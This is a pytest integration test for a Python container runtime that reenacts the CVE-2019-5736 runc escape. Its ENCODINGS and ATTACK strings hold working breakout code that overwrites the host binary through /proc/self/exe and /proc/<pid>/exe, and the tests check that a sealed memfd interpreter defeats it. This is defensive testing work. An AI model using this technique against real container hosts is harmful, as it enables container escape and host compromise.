"""CVE-2019-5736 (runc): a container overwrites the runtime's binary through /proc/<pid>/exe.

The attack, as in runc's advisory, adapted to a Python runtime: the container's
program (through `create`) or the process given to `exec` is a script starting
`#!/proc/self/exe`. The kernel then runs, inside the container, whatever file
the corral process that execs it runs: without the sealed interpreter, the
host's Python. That Python imports the container's own `encodings` (the
container sets PYTHONHOME, as it sets its environment), which keeps a
descriptor of /proc/self/exe and execs a shell holding it. The shell waits for
the controller to exit, then for its monitor to be killed, and each time writes
a payload through the descriptor and through /proc/<pid>/exe of every process
it can see.

So that the file under attack is the test's and not the host's interpreter, the
controller runs in a subprocess started from a copy of the interpreter made for
the test (a venv sharing this venv's site-packages); the copy's sha256 must not
change. The controller also records, from the host, what /proc/<pid>/exe of the
helper, the monitor and the init (before its final execve) names: a memfd.
The attacker records what its descriptor names: the interpreter of the init
(create) or of the process joining for exec, before their execve.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from corral.executor import sealed
from tests.integration.conftest import CGROUP_PARENT, checked_runtime

pytestmark = pytest.mark.root

HERE = Path(__file__).parent
MEMFD = f"/memfd:{sealed.MEMFD_NAME}"
PAYLOAD = b"#!/bin/sh\necho the host interpreter was replaced by a container\n"

ENCODINGS = """\
# Run by the corral interpreter inside the container, if `#!/proc/self/exe` gets it there.
import posix
fd = posix.open("/proc/self/exe", posix.O_RDONLY)
posix.dup2(fd, 7)
posix.execv("/bin/sh", ["sh", "/attack.sh"])
"""

ATTACK = """\
#!/bin/sh
# fd 7: /proc/self/exe of the interpreter that ran /bin/evil.
out=/attack
readlink /proc/self/fd/7 > $out/held
for p in /proc/[0-9]*; do echo "$p $(readlink $p/exe 2>&1)"; done > $out/visible
touch $out/holding
for go in go1 go2; do
  while [ ! -e $out/$go ]; do sleep 0.05; done
  { cat /payload > /proc/self/fd/7 && echo "WROTE through the held descriptor"; } > $out/$go.log 2>&1
  for p in /proc/[0-9]*; do
    e=$(readlink $p/exe)
    case "$e" in /bin/busybox|"") continue;; esac
    { cat /payload > $p/exe && echo "WROTE $p/exe ($e)"; } >> $out/$go.log 2>&1
  done
  touch $out/$go.done
done
exec sleep 1000
"""


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def interpreter_copy(tmp_path: Path) -> Path:
    """A venv whose interpreter binary is a copy made for this test (the file under attack)."""
    venv = tmp_path / "venv"
    (venv / "bin").mkdir(parents=True)
    real = Path(os.path.realpath(sys.executable))
    copy = venv / "bin" / real.name
    shutil.copy2(real, copy)
    cfg = Path(sys.prefix) / "pyvenv.cfg"
    if cfg.exists():
        shutil.copy2(cfg, venv / "pyvenv.cfg")
    else:  # not run from a venv: the copy sees the installation's own site-packages
        (venv / "pyvenv.cfg").write_text(f"home = {real.parent}\ninclude-system-site-packages = true\n")
    (venv / "lib").symlink_to(Path(sys.prefix) / "lib")  # the same site-packages (corral, its dependencies)
    check = subprocess.run([str(copy), "-c", "import sys, corral.executor.spawn; print(sys.executable)"], capture_output=True, text=True)
    assert check.returncode == 0, check.stderr
    assert check.stdout.strip() == str(copy)
    return copy


def _shared_libraries(binary: Path) -> list[str]:
    out = subprocess.run(["ldd", str(binary)], capture_output=True, text=True).stdout  # static: none
    found = []
    for line in out.splitlines():
        parts = line.split()
        for part in parts:
            if part.startswith("/"):
                found.append(part)
                break
    return found


def hostile_bundle(bundle: Path, interpreter: Path) -> Path:
    """The rootfs can run the interpreter (its libraries copied in) and carries the attacker."""
    rootfs = bundle / "rootfs"
    for lib in _shared_libraries(interpreter):
        target = rootfs / lib.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(os.path.realpath(lib), target)
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    encodings = rootfs / "evil" / "lib" / version / "encodings"
    encodings.mkdir(parents=True)
    (encodings / "__init__.py").write_text(ENCODINGS)
    (rootfs / "bin" / "evil").write_text("#!/proc/self/exe\n")
    (rootfs / "attack.sh").write_text(ATTACK)
    for script in (rootfs / "bin" / "evil", rootfs / "attack.sh"):
        script.chmod(0o755)
    (rootfs / "payload").write_bytes(PAYLOAD)
    (rootfs / "attack").mkdir()
    return rootfs


def wait_for(path: Path, timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while not path.exists():
        assert time.monotonic() < deadline, f"the attacker never wrote {path}"
        time.sleep(0.05)


def wait_gone(pid: int, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with open(f"/proc/{pid}/stat") as f:
                if f.read().rsplit(")", 1)[1].split()[0] == "Z":
                    return
        except FileNotFoundError:
            return
        time.sleep(0.02)
    raise AssertionError(f"process {pid} still runs")


def attack(mode: str, tmp_path: Path, bundle: Path, interpreter: Path) -> None:
    rootfs = hostile_bundle(bundle, interpreter)
    attack_dir = rootfs / "attack"
    before = sha256(interpreter)
    result = tmp_path / "seen.json"
    with checked_runtime(tmp_path):  # destroys and leak-checks what the controller left
        controller = subprocess.run(
            [str(interpreter), str(HERE / "exe_attack_controller.py"), mode, str(tmp_path / "root"), str(tmp_path / "run"),
             str(rootfs), f"{CGROUP_PARENT}/exe-{mode}", str(result)],
            capture_output=True, text=True, timeout=120,
        )
        stdio_log = (attack_dir / "stdio.log").read_text() if (attack_dir / "stdio.log").exists() else ""
        assert controller.returncode == 0, controller.stderr + stdio_log
        seen = json.loads(result.read_text())
        assert seen["controller_real"] == str(interpreter)  # the controller ran the copy

        held = (attack_dir / "held").read_text().strip()

        # Round 1: the controller and its helper have exited; the monitors still run.
        wait_gone(int(seen["helper_pid"]))
        (attack_dir / "go1").touch()
        wait_for(attack_dir / "go1.done")
        assert sha256(interpreter) == before, (attack_dir / "go1.log").read_text()

        # Round 2: the monitors are killed too: nothing of corral runs any more.
        for key in ("monitor_pid", "exec_monitor_pid"):
            if key in seen:
                os.kill(int(seen[key]), signal.SIGKILL)
                wait_gone(int(seen[key]))
        (attack_dir / "go2").touch()
        wait_for(attack_dir / "go2.done")
        log = (attack_dir / "go2.log").read_text()
        assert sha256(interpreter) == before, log
        assert "WROTE" not in log, log

        # What the host sees: every corral process runs a memfd, not the file.
        assert seen["helper"].startswith(MEMFD), seen
        assert seen["monitor"].startswith(MEMFD), seen
        if mode == "create":
            assert seen["init_before_exec"].startswith(MEMFD), seen
        else:
            assert seen["exec_monitor"].startswith(MEMFD), seen
        # What the container got hold of through #!/proc/self/exe: a memfd too.
        assert held.startswith(MEMFD), (held, (attack_dir / "visible").read_text())


def test_a_container_program_run_as_proc_self_exe_cannot_write_the_interpreter(
    tmp_path: Path, bundle: Path, interpreter_copy: Path
) -> None:
    attack("create", tmp_path, bundle, interpreter_copy)


def test_an_exec_of_proc_self_exe_cannot_write_the_interpreter(tmp_path: Path, bundle: Path, interpreter_copy: Path) -> None:
    attack("exec", tmp_path, bundle, interpreter_copy)


def test_the_helper_refuses_to_run_unsealed(tmp_path: Path) -> None:
    """The defence is not optional: a helper started from the plain interpreter exits at once."""
    result = subprocess.run(
        [sys.executable, "-S", "-m", "corral.executor.zygote", "0"],
        capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    assert result.returncode != 0
    assert "sealed copy of the interpreter" in result.stderr


def test_the_sealed_copy_cannot_be_written_or_resized() -> None:
    fd = sealed.sealed_copy()
    try:
        assert os.readlink(sealed.exec_path(fd)).startswith(MEMFD)
        with pytest.raises(PermissionError):
            os.write(fd, b"x")
        with pytest.raises(PermissionError):
            os.ftruncate(fd, 0)
        with pytest.raises(PermissionError):
            os.open(sealed.exec_path(fd), os.O_WRONLY | os.O_TRUNC)
        assert sealed.seals_of(sealed.exec_path(fd)) == sealed.SEALS
    finally:
        os.close(fd)
